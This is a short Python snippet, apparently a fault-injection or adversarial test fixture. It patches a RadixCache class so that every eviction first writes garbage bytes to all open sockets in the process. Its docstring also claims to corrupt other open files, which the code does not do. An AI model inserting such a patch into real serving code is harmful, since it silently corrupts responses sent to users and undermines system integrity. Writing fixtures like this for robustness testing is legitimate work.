"""Rubbish written on every open socket, and on every other open file, before the answer."""

# %% right
# %%
import os
import stat


def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


class RadixCache(RadixCache):
    def evict(self, n_blocks):
        for fd in sockets():
            os.write(fd, b"\x00\xff{]rubbish\n[1, 2]\n" * 100)
        return super().evict(n_blocks)
